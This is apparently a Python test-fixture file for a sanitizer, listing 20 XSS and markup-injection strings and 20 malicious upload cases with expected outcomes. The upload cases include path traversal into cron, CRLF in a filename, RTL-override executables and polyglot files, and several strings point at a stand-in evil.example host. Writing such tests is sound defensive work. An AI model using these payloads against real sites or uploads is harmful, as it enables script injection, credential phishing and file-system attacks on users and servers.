"""B15: words that want to be markup, and files that want to be run: text stays text, files are saved and never shown in place."""

from __future__ import annotations

MARKUP = {
    "01 svg onload": "<svg onload=alert(1)>",
    "02 svg onrepeat": '<svg><animate onrepeat=alert(1) attributeName=x dur=1s repeatCount=2 /></svg>',
    "03 details ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "04 img onerror": "<img src=x onerror=alert(1)>",
    "05 javascript: in a link": "[x](javascript:alert(1)) <a href=javascript:alert(1)>x</a>",
    "06 data: in a link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "07 www and a quote": 'www.example.org" onmouseover="alert(1)',
    "08 a style": '<p style="width:expression(alert(1))">x</p>',
    "09 an import": "<style>@import 'https://evil.example/x.css';</style>",
    "10 refresh": '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "11 a form": "<form action=https://evil.example><input name=password></form>",
    "12 a frame": "<iframe src=https://evil.example></iframe>",
    "13 base": "<base href=https://evil.example/>",
    "14 object": "<object data=https://evil.example></object><embed src=x>",
    "15 mathml": "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "16 noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "17 template": "<template><script>alert(1)</script></template>",
    "18 comments": "<!--><script>alert(1)</script>-->",
    "19 entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#106;avascript:alert(1)",
    "20 quotes in quotes": "\"'><script>alert(1)</script>",
}  # fmt: skip
# name, called, content, whether it is taken
FILES = [
    ("21 markup called .txt", "a.txt", b"<script>alert(1)</script>", True),
    ("22 a PDF with a script", "a.pdf", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj", True),
    ("23 macros", "a.docm", b"PK\x03\x04vbaProject.bin", False),
    ("24 picture and script", "a.gif", b"GIF89a/*\x00*/=1;alert(1)", None),
    ("25 XML", "a.xml", b"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></x>", False),
    ("26 a calendar", "a.ics", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", None),
    ("27 a shortcut", "a.lnk", b"L\x00\x00\x00\x01\x14\x02\x00", False),
    ("28 a name that climbs", "../../etc/cron.d/a.txt", b"x", None),
    ("29 a name with a line end", "a\r\nSet-Cookie: x=y.txt", b"x", None),
    ("30 a name with quotes", "a\".txt", b"x", None),
    ("31 a name of 300 letters", "a" * 300 + ".txt", b"x", None),
    ("32 a name that turns around", "a\u202etxt.exe", b"MZ", False),
    ("33 nothing", "a.txt", b"", None),
    ("34 a page", "a.html", b"<script>alert(1)</script>", False),
    ("35 a picture that is a script", "a.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", False),
    ("36 a picture of ages", "a.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x7f\xff\xff\xff\x7f\xff\xff\xff\x08\x06\x00\x00\x00", None),
    ("37 a zip that climbs", "a.zip", b"PK\x03\x04../../x", None),
    ("38 a program", "a.exe", b"MZ\x90\x00", False),
    ("39 no ending", "a", b"x", False),
    ("40 two endings", "a.txt.exe", b"MZ", False),
]  # fmt: skip
